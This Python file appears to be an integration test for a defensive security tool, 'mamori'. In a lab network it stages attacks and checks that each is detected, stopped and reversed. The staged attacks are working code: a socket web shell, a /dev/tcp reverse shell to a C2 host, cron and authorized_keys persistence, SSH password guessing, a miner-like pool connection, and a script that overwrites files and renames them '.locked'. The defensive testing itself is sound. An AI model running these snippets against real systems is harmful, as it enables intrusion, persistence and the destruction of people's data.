#!/usr/bin/env python3
"""attacks.py MAMORI SCENARIO - one real attack on a PC (lab.py), found, answered and the answer looked at from outside mamori."""
import json
import os
import shutil
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from lab import ATTACKER, C2, HUB, PC, PY, Office, case, failed, skip, until  # noqa: E402


def run_below(o, path, text, *args):
    """Put a script of an interpreter that is not the system's name into a place, and run it."""
    o.pc.write(path, text, 0o755)
    return o.pc.spawn(path, *args)


def is_over(p):
    return p.poll() is not None


def web_shell(o):
    """A web service that spawns a shell: a program named nginx listens and runs what a request says."""
    o.pc.sh(f"mkdir -p /srv/web && cp {PY} /srv/web/nginx")
    o.pc.write("/srv/web/app.py", "import socket, subprocess\ns = socket.create_server(('0.0.0.0', 8080))\nwhile True:\n"
                                  "    c, _ = s.accept()\n    subprocess.Popen(['/bin/sh', '-c', c.recv(4096).decode()], stdin=subprocess.DEVNULL)\n")
    o.pc.spawn("setpriv", "--reuid=33", "--regid=33", "--clear-groups", "/srv/web/nginx", "/srv/web/app.py")  # as www-data
    assert until(lambda: o.reaches(o.net, ATTACKER, PC, 8080)), "the web service does not listen"
    o.net.run(PY, "-c", f"import socket; s = socket.create_connection(('{PC}', 8080)); s.sendall(b'id; sleep 61')")
    case("the_shell_is_found", until(lambda: o.is_found("shell") or o.is_found("Service account")), o.said())
    case("the_shell_is_ended", until(lambda: o.is_proved("kill.process")), o.said())
    case("and_is_really_gone", until(lambda: o.pc.run("pgrep", "-f", "^sleep 61").returncode != 0, 20))


def miner(o):
    """A program that behaves as miners do: from a folder everybody can write to, it keeps a connection to a pool's port."""
    o.net.spawn(PY, "-c", f"import socket,time; s = socket.create_server(('{C2}', 3333)); k = []\nwhile True: k.append(s.accept())")
    o.pc.run("cp", PY, "/tmp/worker", check=True)
    o.pc.write("/tmp/m.py", f"import socket, time\ns = socket.create_connection(('{C2}', 3333))\nwhile True:\n    s.sendall(b'{{\"method\":\"login\"}}\\n')\n    time.sleep(0.2)\n")
    time.sleep(0.5)
    p = o.pc.spawn("/tmp/worker", "/tmp/m.py")
    case("the_miner_is_found", until(lambda: o.is_found("folder everybody can write to") or o.is_found("mining")), o.said())
    case("it_is_ended", until(lambda: is_over(p)) and until(lambda: o.is_proved("kill.process")), o.said())
    case("its_file_is_moved_away", until(lambda: o.is_proved("quarantine.file", "/tmp/worker")) and not o.pc.has("/tmp/worker"), o.said())


def reverse_shell(o):
    """A shell whose input and output are a connection to the attacker."""
    o.net.spawn(PY, "-c", f"import socket,time; s = socket.create_server(('{C2}', 4444)); k = []\nwhile True: k.append(s.accept())")
    time.sleep(0.5)
    p = o.pc.spawn("bash", "-c", f"exec 3<>/dev/tcp/{C2}/4444; exec bash -i <&3 >&3 2>&3")
    case("it_is_found", until(lambda: o.is_found("shell")), o.said())
    case("the_shell_is_ended", until(lambda: is_over(p)) and until(lambda: o.is_proved("kill.process")), o.said())
    case("the_attacker_is_denied", until(lambda: C2 in o.denied()), o.said())
    case("and_cannot_be_reached", not o.reaches(o.pc, "", C2, 4444))


def cron(o):
    """A program in /tmp writes itself into cron."""
    p = run_below(o, "/tmp/upd", "#!/bin/sh\necho '* * * * * root /tmp/upd' > /etc/cron.d/upd\nexec sleep 62\n")
    case("the_entry_is_found", until(lambda: o.is_found("autostart") or o.is_found("Scheduled job")), o.said())
    case("the_entry_is_taken_out", until(lambda: o.is_proved("remove.autostart", "/etc/cron.d/upd")), o.said())
    case("and_is_really_gone", not o.pc.has("/etc/cron.d/upd"))
    case("the_program_is_ended", until(lambda: is_over(p)), o.said())


def authorized_keys(o):
    """A program in /tmp adds a key to root's, beside the one of the administrator."""
    case("the_office_is_quiet_before", not o.actions(), o.said())
    o.pc.sh("cat /root/.ssh/authorized_keys")
    p = run_below(o, "/tmp/k", "#!/bin/sh\necho 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEVJTA evil@nowhere' >> /root/.ssh/authorized_keys\nexec sleep 63\n")
    case("it_is_found", until(lambda: o.is_found("autostart") or o.is_found("Keys for remote")), o.said())
    case("the_line_is_taken_out", until(lambda: o.is_proved("remove.autostart", "authorized_keys")), o.said())
    keys = o.pc.sh("cat /root/.ssh/authorized_keys").stdout
    case("the_administrators_key_stays", "admin@office" in keys and "evil" not in keys, keys)
    case("the_program_is_ended", until(lambda: is_over(p)), o.said())


def brute_force(o):
    """Passwords are guessed at a real sshd."""
    if not shutil.which("sshd") or not shutil.which("sshpass"):
        skip("needs sshd and sshpass")
    o.pc.sh("mkdir -p /run/sshd /home/ssh && ssh-keygen -q -t ed25519 -N '' -f /home/ssh/key")
    o.pc.write("/home/ssh/conf", f"ListenAddress {PC}\nHostKey /home/ssh/key\nPidFile none\nUsePAM no\nPasswordAuthentication yes\n"
                                 "PermitRootLogin yes\nStrictModes no\n")
    # sshd -e says on stderr what it would say to syslog; the harness gives it syslog's line head
    o.pc.spawn("sh", "-c", "$(command -v sshd) -D -e -f /home/ssh/conf 2>&1 | while read l; do "
                           f"echo \"$(LC_ALL=C date '+%b %e %H:%M:%S') pc1 sshd[77]: $l\" >> {o.auth}; done")
    assert until(lambda: o.reaches(o.net, ATTACKER, PC, 22), 30), "sshd does not listen"
    for i in range(12):
        if ATTACKER in o.denied():
            break
        o.net.run("timeout", "8", "sshpass", "-p", f"guess{i}", "ssh", "-b", ATTACKER, "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                  "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-o", "ConnectTimeout=3", f"root@{PC}", "true")
    case("the_guesser_is_denied", until(lambda: ATTACKER in o.denied()), o.said())
    case("it_is_proved", until(lambda: o.is_proved("block.addr", ATTACKER)), o.said())
    case("and_cannot_connect", not o.reaches(o.net, ATTACKER, PC, 22))
    case("others_can", o.reaches(o.hub, "", PC, 22))


ENCRYPT = """import os, sys
for root, _, names in sorted(os.walk(sys.argv[1])):
    for n in sorted(names):
        p = os.path.join(root, n)
        try:
            with open(p, "r+b") as f:
                f.write(os.urandom(os.path.getsize(p)))
            os.rename(p, p + ".locked")
        except OSError:
            pass
"""


def papers(o, n=2000):
    o.pc.write("/home/make.py", "import sys\nfor i in range(int(sys.argv[1])):\n    open(f'/home/staff/papers/letter-{i:04}.txt', 'w')"
                                ".write(f'letter {i}: ' + 'dear customer, ' * 400)\n")
    o.pc.run(PY, "/home/make.py", str(n), check=True)


def lost(o):
    return int(o.pc.sh("ls /home/staff/papers | grep -c locked").stdout or 0)


def encryption(o):
    """Mass encryption of 2,000 files: from the canary on nothing is lost, and the program is ended."""
    papers(o)
    o.pc.write("/home/staff/enc.py", ENCRYPT)
    canaries = o.pc.sh("ls -A /home/staff/papers | grep -c mamori-canary").stdout.strip()
    case("canaries_are_there", canaries == "2", canaries)
    p = o.pc.spawn(PY, "/home/staff/enc.py", "/home/staff/papers")
    case("it_is_found", until(lambda: o.is_found("mamori.ransom")), o.said())
    case("the_program_is_ended", until(lambda: is_over(p)) and until(lambda: o.is_proved("kill.process")), o.said())
    case("no_file_was_lost_from_the_canary_on", lost(o) == 0, f"{lost(o)} lost")  # the canary sorts first


def encrypt_beside_canaries(o):
    papers(o)
    o.pc.write("/home/staff/enc.py", ENCRYPT.replace("for n in sorted(names):", "for n in sorted(x for x in names if 'canary' not in x):"))
    p = o.pc.spawn(PY, "/home/staff/enc.py", "/home/staff/papers")
    case("it_is_found", until(lambda: o.is_found("mamori.ransom.encryption")), o.said())
    case("the_program_is_ended", until(lambda: is_over(p)) and until(lambda: o.is_proved("kill.process")), o.said())
    print(f"    {lost(o)} of 2000 files were lost")


def encryption_without_canary(o):
    """The same by a program that leaves canaries alone: the kernel counts, and stops it."""
    encrypt_beside_canaries(o)
    if "counter=kernel" in o.pc.log():
        case("at_most_20_files_are_lost", lost(o) <= 20, lost(o))
    else:
        print("    this kernel does not count")
        case("most_files_are_saved", lost(o) < 1000, lost(o))


def encryption_by_notification(o):
    """The same where the kernel does not count; how few are lost on a quiet machine is measured (tests/bench)."""
    encrypt_beside_canaries(o)
    case("the_kernel_does_not_count", "counter=notification" in o.pc.log(), o.pc.log())
    case("most_files_are_saved", lost(o) < 1000, lost(o))


def quarantine_and_restore(o):
    """What was moved away comes back byte for byte when a person says so."""
    o.pc.sh("cp $(readlink -f $(command -v sleep)) /tmp/tool && chmod 751 /tmp/tool && chmod 755 /tmp/tool && touch -d '2020-02-02 02:02:02' /tmp/tool")
    before, body = o.pc.run("stat", "-c", "%a %u %g %Y", "/tmp/tool").stdout, o.pc.run("sha256sum", "/tmp/tool").stdout
    o.pc.spawn("setpriv", "--reuid=33", "--regid=33", "--clear-groups", "/tmp/tool", "64")  # by the web server's account
    case("it_is_moved_away", until(lambda: o.is_proved("quarantine.file", "/tmp/tool")) and not o.pc.has("/tmp/tool"), o.said())
    rc, out = o.hub.cli("block", "list", "--json")
    ids = [b["id"] for b in json.loads(out)["blocks"] if b["verb"] == "quarantine.file"]
    case("it_stands_among_what_is_in_force", len(ids) == 1, out)
    rc, out = o.hub.cli("block", "undo", ids[0]) if ids else (3, "")
    case("it_is_taken_back", rc == 0 and until(lambda: o.pc.has("/tmp/tool"), 20), out + o.said())
    case("byte_for_byte", body and o.pc.run("sha256sum", "/tmp/tool").stdout == body, body)
    case("with_mode_owner_and_time", o.pc.run("stat", "-c", "%a %u %g %Y", "/tmp/tool").stdout == before, before)


SPREAD = """title: Test of reaching for other machines
id: 5f3c8a52-1111-4a62-9c0a-000000000001
logsource: {product: linux, category: process_creation}
detection: {s: {CommandLine|contains: reach-for-the-neighbours}, condition: s}
level: high
tags: [attack.lateral_movement, attack.t1021]
"""


def isolate(o):
    """A machine that reaches for others is cut off; its hub stays in reach, and it is let go when the order is taken back."""
    neighbour = o.net.spawn(PY, "-c", f"import socket,time; s = socket.create_server(('{C2}', 9999)); k = []\nwhile True: k.append(s.accept())")
    assert until(lambda: o.reaches(o.pc, "", C2, 9999), 20)
    o.pc.spawn("sh", "-c", ": reach-for-the-neighbours; sleep 65")
    case("it_is_cut_off", until(lambda: o.is_proved("isolate.host")), o.said())
    case("really", not o.reaches(o.pc, "", C2, 9999))
    case("its_hub_is_in_reach", o.reaches(o.pc, "", HUB, 7400))
    case("and_hears_of_it", until(lambda: any(n["name"] == "pc1" and n["up"] for n in (o.hub.status()["brain"] or {}).get("nodes", []))))
    time.sleep(12)  # longer than the time-out that nobody would have confirmed: the hub has verified since
    case("it_stays_so_once_confirmed", o.is_proved("isolate.host") and not o.reaches(o.pc, "", C2, 9999), o.said())
    rc, out = o.hub.cli("block", "undo-all")
    case("it_is_let_go", until(lambda: o.reaches(o.pc, "", C2, 9999), 30), out + o.said())
    neighbour.kill()


def isolate_rolls_back(o):
    """Nobody confirms: the line to the hub is cut right after; the machine comes back by itself, though it hears from nobody."""
    o.net.spawn(PY, "-c", f"import socket,time; s = socket.create_server(('{C2}', 9999)); k = []\nwhile True: k.append(s.accept())")
    o.pc.spawn("sh", "-c", ": reach-for-the-neighbours; sleep 65")
    case("it_is_cut_off", until(lambda: "hook input" in o.pc.run("nft", "list", "table", "inet", "mamori_host_iso").stdout), o.said())
    o.hub.run("ip", "link", "set", "lan0", "down")
    case("it_comes_back_by_itself", until(lambda: "hook input" not in o.pc.run("nft", "list", "table", "inet", "mamori_host_iso").stdout, 60), o.pc.log())
    o.hub.run("ip", "link", "set", "lan0", "up")
    case("and_says_so", until(lambda: "nobody confirmed" in o.pc.log(), 20), o.pc.log())


SCENARIOS = {f.__name__: f for f in (web_shell, miner, reverse_shell, cron, authorized_keys, brute_force, encryption, encryption_without_canary,
                                     encryption_by_notification, quarantine_and_restore, isolate, isolate_rolls_back)}


def office_for(mamori, name):
    o = Office(mamori, is_started=False)
    path = os.path.join(o.pc.site, "50-site.yaml")
    conf = json.load(open(path))
    if name.startswith("isolate"):
        os.makedirs(os.path.join(o.pc.dir, "rules"))
        with open(os.path.join(o.pc.dir, "rules", "spread.yml"), "w") as f:
            f.write(SPREAD)
        conf["plugins"]["sigma"] = {"config": {"rules": [os.path.join(o.pc.dir, "rules")]}}
        conf["plugins"]["contain"]["config"]["confirm"] = "40s" if name == "isolate" else "6s"
    if name == "encryption_by_notification":
        conf["plugins"]["ransom"]["config"]["counter"] = False
    with open(path, "w") as f:
        json.dump(conf, f)
    if name == "authorized_keys":
        o.pc.sh("mkdir -m 700 /root/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEFETQ admin@office' > /root/.ssh/authorized_keys")
    if name.startswith("encryption"):
        papers(o)
    o.start()
    return o


def main():
    mamori, name = os.path.abspath(sys.argv[1]), sys.argv[2]
    if os.geteuid() != 0 or not all(shutil.which(x) for x in ("ip", "nft", "nsenter", "unshare")) or not os.path.exists(PY):
        skip("needs root, ip, nft, nsenter and unshare")
    o = office_for(mamori, name)
    try:
        SCENARIOS[name](o)
    finally:
        o.end()
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
